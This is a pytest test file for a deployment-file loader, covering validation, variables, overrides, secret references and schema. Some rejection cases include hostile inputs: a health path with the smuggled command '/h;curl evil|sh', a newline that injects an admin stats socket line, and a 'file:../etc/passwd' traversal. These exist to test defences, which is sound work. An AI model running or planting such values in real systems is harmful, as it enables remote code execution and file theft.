"""The deployment file: validation, variables, overrides, secrets references, schema."""

from __future__ import annotations

import json

import pytest

from shipyard.errors import InputError
from shipyard.photon.model import load, parse_duration, schema
from shipyard.photon.secrets import resolve
from shipyard.photon.variables import slug

MINIMAL = {"service": "hello", "env": "${BRANCH}", "image": "registry.example.com/hello:1.4.2",
           "container": {"port": 8080, "health": {"path": "/health"}},
           "local": {"command": ["python3", "app.py", "--port", "${PORT}"]},
           "config": {"vars": {"GREETING": "hi"}, "secrets": {"API_KEY": "env:HELLO_API_KEY"}},
           "deploy": {"strategy": {"type": "canary", "percent": 10, "bake": "30s"},
                      "gates": {"max_error_rate": 0.02}}}


def _file(tmp_path, doc, name="deployment.json"):
    p = tmp_path / name
    p.write_text(json.dumps(doc))
    return p


def test_the_issue_minimal_file_loads_with_branch_and_defaults(tmp_path):
    dep = load(_file(tmp_path, MINIMAL), environ={"BRANCH": "feature/Login_Page"})
    assert dep.env == "feature-login-page"
    assert dep.target == "local"
    assert dep.release_version == "1.4.2"
    assert dep.deploy.strategy.type == "canary" and dep.deploy.strategy.bake == 30.0
    assert dep.deploy.gates.max_error_rate == 0.02
    assert dep.local.command == ["python3", "app.py", "--port", "${PORT}"]  # filled at start time
    assert dep.spec()["config"]["secrets"] == {"API_KEY": "env:HELLO_API_KEY"}


@pytest.mark.parametrize("doc, field, fix", [
    ({"deploy": {"stratgy": {"type": "all_at_once"}}}, "deploy.stratgy", "did you mean 'strategy'?"),
    ({"contianer": {}}, "contianer", "did you mean 'container'?"),
    ({"deploy": {"strategy": {"type": "canary", "percent": 150}}}, "deploy.strategy.percent", None),
    ({"deploy": {"strategy": {"type": "linear", "step_bake": "ten seconds"}}}, "deploy.strategy.step_bake", None),
    ({"deploy": {"strategy": {"type": "zigzag"}}}, "deploy.strategy", None),
    ({"deploy": {"bake": "-3s"}}, "deploy.bake", None),
    ({"config": {"secrets": {"K": "vault:x"}}}, "config.secrets.K", None),
    ({"container": {"health": {"path": "/health\n  stats socket /tmp/x level admin"}}}, "container.health.path", None),
    ({"container": {"health": {"path": "/h;curl evil|sh"}}}, "container.health.path", None),
    ({"environments": {"prod": {"deploy": {"gates": {"max_error_rte": 0.1}}}}},
     "environments.prod.deploy.gates.max_error_rte", "did you mean 'max_error_rate'?"),
])
def test_a_bad_file_gets_one_error_naming_the_field(tmp_path, doc, field, fix):
    base = {k: v for k, v in MINIMAL.items() if k != "deploy"} | {"env": "dev"}
    merged = {**base, **doc}
    with pytest.raises(InputError) as err:
        load(_file(tmp_path, merged))
    assert f": {field}:" in err.value.message
    if fix:
        assert err.value.hint == fix


def test_durations():
    assert parse_duration("500ms") == 0.5
    assert parse_duration("2m") == 120
    assert parse_duration(3) == 3.0
    with pytest.raises(ValueError):
        parse_duration("3 weeks")


def test_variables_sha_env_and_literal(tmp_path):
    doc = {**MINIMAL, "env": "staging", "version": "${GIT_SHA}",
           "config": {"vars": {"REGION": "${REGION}", "LITERAL": "$${NOT_EXPANDED}"}}}
    dep = load(_file(tmp_path, doc), environ={"GIT_SHA": "0123456789abcdef0123", "REGION": "eu-west-1"})
    assert dep.version == "0123456789ab"
    assert dep.config.vars == {"REGION": "eu-west-1", "LITERAL": "${NOT_EXPANDED}"}


def test_an_unset_variable_names_where_it_is_used(tmp_path):
    doc = {**MINIMAL, "env": "dev", "image": "x/${IMAGE_TAG}"}
    with pytest.raises(InputError, match=r"image: \$\{IMAGE_TAG\} is not set"):
        load(_file(tmp_path, doc), environ={})


def test_environment_overrides_apply_to_their_env_only(tmp_path):
    doc = {**MINIMAL, "environments": {"prod": {"deploy": {"strategy": {"type": "linear", "step_percent": 25}},
                                                "config": {"vars": {"GREETING": "hello"}}}}}
    prod = load(_file(tmp_path, {**doc, "env": "prod"}))
    assert prod.deploy.strategy.type == "linear" and prod.config.vars["GREETING"] == "hello"
    assert prod.deploy.gates.max_error_rate == 0.02  # merged, not replaced
    dev = load(_file(tmp_path, {**doc, "env": "dev"}))
    assert dev.deploy.strategy.type == "canary" and dev.config.vars["GREETING"] == "hi"


def test_schema_is_published_and_a_file_may_point_at_it(tmp_path):
    s = schema()
    assert s["$schema"].startswith("https://json-schema.org/")
    assert {"service", "env", "deploy", "config"} <= set(s["properties"])
    assert s["additionalProperties"] is False
    dep = load(_file(tmp_path, {**MINIMAL, "env": "dev", "$schema": "./deployment.schema.json"}))
    assert dep.schema_ref == "./deployment.schema.json"


def test_not_json_and_missing_file(tmp_path):
    p = tmp_path / "d.json"
    p.write_text("{\"service\": ")
    with pytest.raises(InputError, match="not valid JSON at line 1"):
        load(p)
    with pytest.raises(InputError, match="no such deployment file"):
        load(tmp_path / "nope.json")


def test_secrets_resolve_from_env_and_file_and_errors_never_show_values(tmp_path):
    (tmp_path / "key.txt").write_text("from-a-file\n")
    got = resolve({"A": "env:HELLO_API_KEY", "B": "file:key.txt"}, tmp_path, environ={"HELLO_API_KEY": "s3cr3t"})
    assert got == {"A": "s3cr3t", "B": "from-a-file"}
    with pytest.raises(InputError, match=r"config.secrets.A \(env:MISSING\) is not set"):
        resolve({"A": "env:MISSING"}, tmp_path, environ={})
    with pytest.raises(InputError, match="leaves the deployment file's folder"):
        resolve({"A": "file:../etc/passwd"}, tmp_path, environ={})
    with pytest.raises(InputError, match="not a regular file"):
        resolve({"A": "file:."}, tmp_path, environ={})


def test_secrets_resolve_from_ssm_and_secrets_manager(s3_server, tmp_path):
    from shipyard import aws

    aws.client("ssm").put_parameter(Name="/hello/db", Value="pw-from-ssm", Type="SecureString", Overwrite=True)
    aws.client("secretsmanager").create_secret(Name="hello-json", SecretString=json.dumps({"token": "t-123"}))
    got = resolve({"DB": "ssm:/hello/db", "TOKEN": "secretsmanager:hello-json#token"}, tmp_path)
    assert got == {"DB": "pw-from-ssm", "TOKEN": "t-123"}
    with pytest.raises(InputError, match="has no key 'nope'"):
        resolve({"X": "secretsmanager:hello-json#nope"}, tmp_path)
    with pytest.raises(InputError, match=r"config.secrets.X \(ssm:/missing\) does not exist"):
        resolve({"X": "ssm:/missing"}, tmp_path)


def test_slug():
    assert slug("Feature/ABC_12--x") == "feature-abc-12-x"


def test_the_example_file_validates_for_each_env_and_its_schema_is_current():
    from pathlib import Path

    from shipyard.photon.model import load_names

    ex = Path(__file__).resolve().parents[2] / "examples" / "photon"
    for branch, strategy in (("feature/x", "canary"), ("staging", "linear"), ("prod", "canary")):
        dep = load(ex / "deployment.json", environ={"BRANCH": branch, "GIT_SHA": "abc"})
        assert dep.deploy.strategy.type == strategy
    assert load(ex / "deployment.json", environ={"BRANCH": "prod", "GIT_SHA": "a"}).deploy.strategy.percent == 5
    assert json.loads((ex / "deployment.schema.json").read_text()) == schema()
    # status/terminate need only the names: GIT_SHA unset is fine there.
    assert load_names(ex / "deployment.json", environ={"BRANCH": "feature/x"}) == ("hello", "feature-x")


def test_tracing_variables():
    from shipyard.photon.model import validate
    from shipyard.photon.targets.base import env_vars

    dep = validate({**MINIMAL, "env": "dev", "tracing": {"otlp_endpoint": "http://collector:4318"}})
    env = env_vars(dep, {"API_KEY": "k"}, None)
    assert env["OTEL_SERVICE_NAME"] == "hello"
    assert env["OTEL_RESOURCE_ATTRIBUTES"] == "service.name=hello,deployment.environment=dev,service.version=1.4.2"
    assert env["OTEL_EXPORTER_OTLP_ENDPOINT"] == "http://collector:4318" and env["API_KEY"] == "k"
    off = validate({**MINIMAL, "env": "dev", "tracing": {"enabled": False}})
    assert not any(k.startswith("OTEL_") for k in env_vars(off, {}, "http://x"))
    assert env_vars(validate({**MINIMAL, "env": "dev"}), {}, "http://default:4318")["OTEL_EXPORTER_OTLP_ENDPOINT"] \
        == "http://default:4318"


def test_the_aws_example_validates_for_a_branch_and_prod():
    from pathlib import Path

    ex = Path(__file__).resolve().parents[2] / "examples" / "photon" / "deployment.aws.json"
    branch = load(ex, environ={"BRANCH": "feature/x", "GIT_SHA": "abc"})
    assert branch.target == "aws" and branch.deploy.driver == "orchestrated"
    assert branch.deploy.gates.alarms == ["hello-feature-x-5xx"]
    prod = load(ex, environ={"BRANCH": "prod", "GIT_SHA": "abc"})
    assert prod.deploy.driver == "native" and prod.aws.cluster == "photon-prod" and prod.aws.subnets
